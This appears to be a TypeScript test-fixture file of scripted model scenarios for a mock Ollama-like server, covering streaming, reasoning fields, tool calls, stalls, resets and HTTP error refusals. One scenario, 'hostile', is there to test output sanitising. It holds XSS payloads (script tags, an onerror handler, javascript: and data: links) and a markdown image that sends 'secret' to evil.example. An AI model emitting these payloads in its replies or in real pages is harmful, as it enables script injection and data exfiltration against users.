import type { Scenario } from "./ollama/scenario.ts";

export type { Scenario } from "./ollama/scenario.ts";

const runnerDied = "an error was encountered while running the model: unexpected EOF";
const loadFailed =
  "llama-server process has terminated: exit status 1: error loading model: check_tensor_dims: tensor 'output_norm.weight' not found";
const sentence = "The river turns past old stones and carries the light through quiet fields.";

/** What a model can be made to do: pass one to `script()`. */
export const scenarios = {
  plain: {
    about: "a short reply at once",
    steps: [{ say: "Hello! I am a scripted model. How can I help you today?" }],
  },
  markdown: {
    about: "headings, a list, a table, code and a formula",
    steps: [
      {
        say: '# A title\n\nSome **bold** and *soft* text with `code`.\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```js\nconsole.log("hi");\n```\n\n$$x^2$$\n',
      },
    ],
  },
  unicode: {
    about: "characters of several bytes, joined ones and right-to-left text",
    steps: [{ say: "Smile 😀 family 👩‍👩‍👧 naïve 漢字 שלום عالم e\u0301" }],
  },
  empty: { about: "the model ends at once", steps: [] },
  thinking: {
    about: "reasoning in its own field, then the answer",
    steps: [
      { think: "The user greets me. I should answer briefly.\n" },
      { say: "Hello, after some thought." },
    ],
  },
  thinkingSlowly: {
    about: "reasoning for some seconds",
    perSecond: 20,
    steps: [{ think: `${sentence} ${sentence} ${sentence}` }, { say: "Here is the answer." }],
  },
  thinkingInTags: {
    about: "think tags in the content, of a model that hides them from the server",
    steps: [
      {
        say: [
          "<think",
          ">\n",
          "Some",
          " hidden",
          " thought",
          ".\n",
          "</",
          "think",
          ">\n\n",
          "This",
          " is the",
          " answer.",
        ],
      },
    ],
  },
  reasoningContent: {
    about: "reasoning in `reasoning_content`, as other servers send it",
    reasoningField: "reasoning_content",
    steps: [{ think: "Another server thinks." }, { say: "And answers." }],
  },
  onlyThinking: {
    about: "cut off by length while still thinking",
    end: "length",
    steps: [{ think: "step 1, step 2, step 3, step 4, step 5" }],
  },
  toolCall: {
    about: "one tool call, whole in one event",
    steps: [{ call: { name: "get_weather", arguments: { city: "Paris", unit: "celsius" } } }],
  },
  textThenToolCalls: {
    about: "some text, then two calls",
    steps: [
      { say: "Let me look that up\n" },
      { call: { name: "get_weather", arguments: { city: "Paris" } } },
      { call: { name: "get_weather", arguments: { city: "Rome" } } },
    ],
  },
  slowFirstToken: {
    about: "nothing for two seconds, then a reply",
    steps: [{ wait: 2000 }, { say: "Sorry for the wait." }],
  },
  loading: {
    about: "the model is loaded for two seconds; it is not in /api/ps and nothing is sent meanwhile",
    load: { ms: 2000 },
    steps: [{ say: "Loaded." }],
  },
  readingPrompt: {
    about: "the model is in memory and reads the prompt for two seconds",
    promptMs: 2000,
    steps: [{ say: "I have read it all." }],
  },
  paused: {
    about: "some words, then nothing until release()",
    steps: [{ say: "One two three" }, { pause: true }, { say: " four five." }],
  },
  pausedBeforeFirst: {
    about: "nothing at all until release()",
    steps: [{ pause: true }, { say: "Released." }],
  },
  pausedWhileThinking: {
    about: "a thought, then nothing until release()",
    steps: [{ think: "Let me see" }, { pause: true }, { think: " further." }, { say: "Done." }],
  },
  longReply: { about: "2,000 tokens as fast as they can be written", steps: [{ tokens: 2000 }] },
  streaming: { about: "400 tokens at 40 a second", perSecond: 40, steps: [{ tokens: 400 }] },
  stall: {
    about: "goes silent for a minute in mid-reply",
    steps: [{ say: "So far so good" }, { wait: 60_000 }, { say: " and on." }],
  },
  byLength: {
    about: "ends because of the token limit",
    end: "length",
    steps: [{ say: "This reply is cut" }],
  },
  diesMidStream: {
    about: "the runner dies: on /v1 a chunk with an empty model and the end, natively an error line",
    end: { dies: runnerDied },
    steps: [{ say: "I was about to" }],
  },
  errorMember: {
    about: "a chunk with an error member, as other servers send",
    end: { errorMember: "the upstream model failed" },
    steps: [{ say: "I was about to" }],
  },
  cut: {
    about: "the body ends properly, but without a terminator",
    end: "cut",
    steps: [{ say: "Half a sent" }],
  },
  reset: { about: "the connection is reset in mid-stream", end: "reset", steps: [{ say: "Half a sent" }] },
  stutter: {
    about: "the same token again and again, until the server gives up",
    steps: [{ say: Array(60).fill(" ha") }],
  },
  malformedLine: {
    about: "an event that is no JSON between two good ones",
    steps: [
      { say: "Before" },
      { write: 'data: {"id":"chatcmpl-1","choices":[{"delta":\n\n' },
      { say: " and after." },
    ],
  },
  splitCharacters: {
    about: "every event is cut in two network chunks, inside a character where it has a long one",
    split: true,
    steps: [{ say: ["Smile", " 😀", " naïve", " 漢字", " done."] }],
  },
  hostile: {
    about: "scripts, javascript: links and remote images",
    steps: [
      {
        say: '<script>window.hacked = true</script>\n\n<img src=x onerror="window.hacked=true">\n\n[click me](javascript:window.hacked=true)\n\n![pixel](https://evil.example/p.png?d=secret)\n\n[data](data:text/html,<script>window.hacked=true</script>)\n',
      },
    ],
  },
  badRequest: refusal(400, "invalid request"),
  unauthorized: {
    about: "not signed in to ollama.com",
    refuse: {
      status: 401,
      error: "unauthorized",
      signinUrl: "https://ollama.com/connect?name=this-computer&key=AAAA",
    },
  },
  cloudDisabled: refusal(403, "ollama cloud is disabled: remote model is unavailable"),
  modelGone: refusal(404, "model 'llama3.2:latest' not found"),
  tooLarge: {
    about: "a proxy refuses a large body",
    refuse: {
      status: 413,
      error: "",
      page: "<html><body><h1>413 Request Entity Too Large</h1></body></html>",
    },
  },
  rateLimited: refusal(429, "you have reached your hourly usage limit, please try again later"),
  serverError: refusal(
    500,
    "model runner has unexpectedly stopped, this may be due to resource limitations or an internal error, check ollama server logs for details",
  ),
  queueFull: refusal(503, "server busy, please try again.  maximum pending requests exceeded"),
  loadFails: {
    about: "the model file is damaged",
    load: { ms: 200, error: `${loadFailed}\n${loadFailed.replace(/^.*?exit status 1: /, "")}` },
  },
  outOfMemory: {
    about: "killed by the system while loading",
    load: { ms: 200, error: "llama-server process has terminated: signal: killed" },
  },
} satisfies Record<string, Scenario>;

function refusal(status: number, error: string): Scenario {
  return { about: `HTTP ${status} before the stream`, refuse: { status, error } };
}

/** So many tokens, at a rate or as fast as they can be written. */
export function tokens(count: number, perSecond?: number): Scenario {
  return {
    about: `${count} tokens`,
    steps: [perSecond === undefined ? { tokens: count } : { tokens: count, perSecond }],
  };
}

/** Just this text. */
export function says(text: string): Scenario {
  return { about: "a text", steps: [{ say: text }] };
}
